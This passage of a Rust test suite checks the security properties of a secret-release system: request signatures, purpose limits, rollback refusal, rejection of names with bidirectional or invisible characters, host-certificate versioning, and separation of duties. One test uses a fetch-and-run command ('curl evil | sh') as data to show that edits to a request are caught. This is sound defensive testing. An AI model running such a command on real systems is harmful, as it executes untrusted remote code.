    let (_eph, req) = w.request("r");
    let org = w.org.public_key();
    let v = verify_request(&org, &w.cert, &req, NOW).unwrap();
    assert_eq!(v.purpose(), &purpose());
    let edits = [
        Purpose::run(&["sh", "-c", "curl evil | sh"], &["DB"], 900),
        Purpose::run(&["./migrate.sh", "--apply"], &["DB", "AWS_KEY"], 900),
        Purpose::run(&["./migrate.sh", "--apply"], &["DB"], 30 * 86_400),
        Purpose::Inject { template_sha256: [0; 32], out: "/tmp/x".into() },
    ];
    for p in edits {
        let mut edited = req.clone();
        edited.request.purpose = p;
        // Through the bytes, as a device receives it.
        let edited = SignedRequest::from_bytes(&edited.to_bytes()).unwrap();
        assert_eq!(
            verify_request(&org, &w.cert, &edited, NOW).err(),
            Some(Error::BadSignature { link: blindvault_core::Link::Request })
        );
    }
    // And the poll token's hash, for the same reason (a front-runner's own token).
    let mut edited = req.clone();
    edited.request.poll_token_hash = [0; 32];
    assert_eq!(
        verify_request(&org, &w.cert, &edited, NOW).err(),
        Some(Error::BadSignature { link: blindvault_core::Link::Request })
    );
}

/// A purpose past its limits is refused when signing and when decoding; control characters in
/// a command line are allowed (they are the host's to give) but only ever shown inert.
#[test]
fn purpose_limits() {
    use blindvault_core::identity::{MAX_PURPOSE_ARGS, Purpose, Request};
    let w = World::new("purpose-limits");
    let (_eph, req) = w.request("r");
    let sign = |p: Purpose| Request { purpose: p, ..req.request.clone() }.sign(&w.host);
    assert!(sign(Purpose::Run { command: vec![], env: vec![], lease_secs: 1 }).is_err());
    assert!(
        sign(Purpose::Run { command: vec!["x".into(); MAX_PURPOSE_ARGS + 1], env: vec![], lease_secs: 1 })
            .is_err()
    );
    assert!(sign(Purpose::Run { command: vec!["x".repeat(2000)], env: vec![], lease_secs: 1 }).is_err());
    assert!(
        sign(Purpose::Run { command: vec!["x".into()], env: vec!["NOT VALID".into()], lease_secs: 1 })
            .is_err()
    );
    assert!(
        sign(Purpose::Run { command: vec!["echo".into(), "a\u{202E}b".into()], env: vec![], lease_secs: 1 })
            .is_ok()
    );
}

/// Rollback: an older version of an entry is still org-signed, so only the host's signed memory
/// of the newest version it received tells it apart. A request with `min_version = 2` cannot be
/// approved with version 1 (say one still sealed to an approver removed since), and a release
/// of version 1 is refused by the consumer even if a device sealed one.
#[test]
fn an_entry_older_than_the_host_has_received_is_refused() {
    use blindvault_core::identity::Request;
    let w = World::new("rollback");
    let a = Device::new("a", 1);
    let (v1, v2) = (w.any_of(&[&a], 1, b"old password", "s"), w.any_of(&[&a], 2, b"new password", "s"));
    let (eph, req) = w.request("r");
    let req = Request { min_version: 2, ..req.request.clone() }.sign(&w.host).unwrap();
    let v = verify_request(&w.org.public_key(), &w.cert, &req, NOW).unwrap();
    assert_eq!(v.min_version(), 2);
    assert!(matches!(approve(a.keys.approver_secret(), &v, &v1, &mut rng("1")), Err(Error::Mismatch { .. })));
    // The consumer too: a release of version 1 (which a device sealed anyway) is refused.
    let apk = a.keys.approver_public().to_array();
    let payload = release_payload(&req.request.request_id.to_array(), &w.entry_id.to_array(), &apk, &[9; 32]);
    let r = response_from(&a, &req, &payload, "old");
    assert_eq!(
        open_response(&eph, &req, &r, &a.verified(&w.org)).err(),
        Some(Error::Mismatch { what: blindvault_core::Mismatch::EntryRollback })
    );
    // Version 2 (and later) opens.
    let r = approve(a.keys.approver_secret(), &v, &v2, &mut rng("3")).unwrap();
    let rel = open_response(&eph, &req, &r, &a.verified(&w.org)).unwrap();
    assert_eq!(recover_secret(&[rel], &v2, &Revocations::none()).unwrap().expose(), b"new password");
}

#[test]
fn names_with_control_bidirectional_or_invisible_characters_are_refused() {
    use blindvault_core::identity::Enrolment;
    let w = World::new("names");
    let approver = Device::new("alice", 1).keys.approver_public();
    for name in ["eve\u{202E}ecila", "a\u{200B}b", "tab\there", "\u{85}", "bom\u{FEFF}"] {
        let e = Enrolment {
            user_id: name.into(),
            credential_id: vec![1; 16],
            approver_key: approver,
            issued_at: NOW,
            not_after: NOW + 1,
        };
        assert!(matches!(e.sign(&w.org), Err(Error::Malformed { .. })), "{name:?}");
        let c = HostCertificate {
            cert_id: CertId::from_array([1; 16]),
            host_name: name.into(),
            host_key: w.host.public_key(),
            allowed_entries: vec![w.entry_id],
            not_before: NOW,
            not_after: NOW + 1,
            issuer: Some("admin-1".into()),
            self_approval: false,
        };
        assert!(matches!(c.sign(&w.org), Err(Error::Malformed { .. })), "{name:?}");
    }
}

/// Host certificate format 2 names its issuer and the self-approval flag under its own signature
/// label; it round-trips, and every one of its fields is covered by the org's signature. A
/// format-1 certificate (no issuer) is still read and verified, as an issuer-less certificate.
#[test]
fn host_certificate_v2_round_trips_and_v1_is_still_read() {
    use blindvault_core::identity::{SIG_HOST_CERT_V1, SIG_HOST_CERT_V2, SignedHostCertificate};
    let w = World::new("cert-v2");
    let org = w.org.public_key();
    // Format 2: round trip, fields, body version byte 0x02.
    let bytes = w.cert.to_bytes();
    let back = SignedHostCertificate::from_bytes(&bytes).unwrap();
    assert_eq!(back, w.cert);
    assert_eq!(back.cert.format(), 2);
    assert_eq!(back.cert.issuer.as_deref(), Some("admin-1"));
    assert!(!back.cert.self_approval);
    assert_eq!(bytes[5], 2, "body format byte after the envelope's version and u32 length");
    back.verify(&org, NOW).unwrap();
    let v = verify_request(&org, &back, &w.request("r").1, NOW).unwrap();
    assert_eq!((v.issuer(), v.self_approval()), (Some("admin-1"), false));
    // The issuer and the flag are signed: changing either breaks the signature.
    let body_len = u32::from_be_bytes(bytes[1..5].try_into().unwrap()) as usize;
    let body_end = 5 + body_len;
    let mut flipped = bytes.clone();
    flipped[body_end - 1] = 1; // self_approval 0 → 1
    let forged = SignedHostCertificate::from_bytes(&flipped).unwrap();
    assert!(forged.cert.self_approval);
    assert!(matches!(
        forged.verify(&org, NOW),
        Err(Error::BadSignature { link: blindvault_core::Link::HostCertificate })
    ));
    let mut renamed = bytes.clone();
    renamed[body_end - 2] ^= 0x01; // last byte of the issuer's name
    let forged = SignedHostCertificate::from_bytes(&renamed).unwrap();
    assert_eq!(forged.cert.issuer.as_deref(), Some("admin-0"));
    assert!(matches!(forged.verify(&org, NOW), Err(Error::BadSignature { .. })));
    // A flag byte other than 0 or 1 does not decode.
    let mut bad = bytes.clone();
    bad[body_end - 1] = 2;
    assert!(matches!(SignedHostCertificate::from_bytes(&bad), Err(Error::Malformed { .. })));
    // The two labels differ, so a signature of one format never verifies as the other.
    assert_ne!(SIG_HOST_CERT_V1, SIG_HOST_CERT_V2);
    assert_eq!(SIG_HOST_CERT_V2, b"blindvault/v2/sig/host-certificate\0");

    // Format 1 (as signed before this version): no issuer, still read and verified.
    let mut old = w.cert.cert.clone();
    old.issuer = None;
    let v1 = old.clone().sign(&w.org).unwrap();
    let v1_bytes = v1.to_bytes();
    assert_eq!(v1_bytes[5], 1);
    assert_eq!(v1_bytes.len(), bytes.len() - (2 + "admin-1".len() + 1));
    let back = SignedHostCertificate::from_bytes(&v1_bytes).unwrap();
    assert_eq!(back.cert.format(), 1);
    assert_eq!((back.cert.issuer.as_deref(), back.cert.self_approval), (None, false));
    back.verify(&org, NOW).unwrap();
    let v = verify_request(&org, &back, &w.request("r").1, NOW).unwrap();
    assert_eq!(v.issuer(), None);
    // The v2 signature over a body whose issuer was cut off (format byte set to 1) does not
    // verify: the label follows the body's format, and the body differs anyway.
    let mut cut = v1_bytes[..5 + body_len - (2 + "admin-1".len() + 1)].to_vec();
    cut.extend_from_slice(&bytes[body_end..]);
    let downgraded = SignedHostCertificate::from_bytes(&cut).unwrap();
    assert_eq!(downgraded.cert.issuer, None);
    assert!(matches!(downgraded.verify(&org, NOW), Err(Error::BadSignature { .. })));
    // Self-approval without an issuer is not a certificate.
    old.self_approval = true;
    assert!(matches!(old.sign(&w.org), Err(Error::Malformed { .. })));
    // An issuer that is not a name is refused at signing.
    let mut c = w.cert.cert.clone();
    c.issuer = Some(String::new());
    assert!(matches!(c.sign(&w.org), Err(Error::Malformed { .. })));
    // Unknown formats are refused.
    let mut v3 = bytes.clone();
    v3[5] = 3;
    assert!(matches!(SignedHostCertificate::from_bytes(&v3), Err(Error::UnknownVersion { version: 3, .. })));
}

/// The consumer enforces separation of duties from its own (org-signed) certificate, whatever
/// the server did: releases whose people are all the certificate's issuer — one device or two —
/// are refused; with another person beside them, or with a certificate that allows
/// self-approval, or a format-1 certificate (no issuer), they pass.
#[test]
fn the_consumer_refuses_a_release_by_the_issuer_alone() {
    use blindvault_core::release::check_separation;
    let w = World::new("sod");
    let issuer = Device::new("admin-1", 1);
    let issuer_phone2 = Device::new("admin-1", 2);
    let alice = Device::new("alice", 3);
    let approvers: Vec<_> = [&issuer, &issuer_phone2, &alice].iter().map(|d| d.verified(&w.org)).collect();
    let entry = seal_entry(
        &w.org,
        w.entry_id,
        1,
        Policy::AnyOf { n: 2 },
        &approvers,
        b"l",
        b"separated",
        &mut rng("seal"),
    )
    .unwrap();
    let (eph, req) = w.request("req");
    let v = verify_request(&w.org.public_key(), &w.cert, &req, NOW).unwrap();
    let open = |d: &Device, s: &str| {
        let r = approve(d.keys.approver_secret(), &v, &entry, &mut rng(s)).unwrap();
        open_response(&eph, &req, &r, &d.verified(&w.org)).unwrap()
    };
    let cert = &w.cert.cert;
    assert_eq!(open(&issuer, "1").user_id(), "admin-1");
    assert_eq!(check_separation(cert, &[open(&issuer, "1")]), Err(Error::SelfApproval));
    assert_eq!(
        check_separation(cert, &[open(&issuer, "1"), open(&issuer_phone2, "2")]),
        Err(Error::SelfApproval),
        "a second device of the issuer is still the issuer"
    );
    // The secret itself would open: only the separation check stands in the way.
    assert_eq!(
        recover_secret(&[open(&issuer, "1")], &entry, &Revocations::none()).unwrap().expose(),
        b"separated"
    );
    check_separation(cert, &[open(&alice, "3")]).unwrap();
    check_separation(cert, &[open(&issuer, "1"), open(&alice, "3")]).unwrap();
    // A certificate that allows self-approval.
    let mut solo = cert.clone();
    solo.self_approval = true;
    check_separation(&solo, &[open(&issuer, "1")]).unwrap();
    // A format-1 certificate names no issuer: nothing to check against.
    let mut old = cert.clone();
    old.issuer = None;
    check_separation(&old, &[open(&issuer, "1")]).unwrap();
    assert!(Error::SelfApproval.to_string().contains("only approver"));
}
